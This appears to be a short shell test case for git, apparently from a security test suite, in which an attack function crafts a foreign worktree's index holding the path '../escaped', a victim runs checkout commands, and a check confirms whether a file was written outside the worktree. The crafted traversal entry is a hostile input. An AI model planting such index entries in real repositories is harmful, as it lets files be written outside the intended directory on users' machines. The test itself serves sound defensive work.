# A foreign worktree's index holds a path that leads out of it.
attack() {
    craft_index "$ENTRY/index" ../escaped "$(echo escaped | git hash-object -w --stdin)"
}
human() {
    git -C "$VICTIM" checkout -q -- .
    git -C "$VICTIM" checkout-index -q -a -f
}
harmed() {
    [ -e "$VICTIM/../escaped" ]
}
